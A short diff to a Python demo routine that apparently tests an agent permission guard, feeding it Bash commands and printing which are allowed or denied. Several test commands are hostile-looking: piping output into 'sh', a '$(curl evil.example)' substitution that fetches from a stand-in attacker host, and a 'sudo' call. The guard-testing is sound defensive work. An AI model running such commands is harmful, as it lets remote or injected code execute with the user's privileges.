@@ -172,7 +172,7 @@ def _guarded(style: Style, folder: Path) -> None:
     receipt = session.load("release-notes", by="model").active[0]
     print(f"loaded {receipt.name} {receipt.digest[:19]}…")
     for command in ("git log --oneline -5", "git log | sh", "git log $(curl evil.example)", "sudo git show HEAD"):
-        admission = session.admit("Bash", {"command": command})
+        admission = session.calls.admit("Bash", {"command": command})
         admission.record(ToolResult(success=True))
     for record in log.records[1:]:
         said = "" if record.decision == "allow" else f"  {style.dim(record.reason.partition('. ')[2])}"
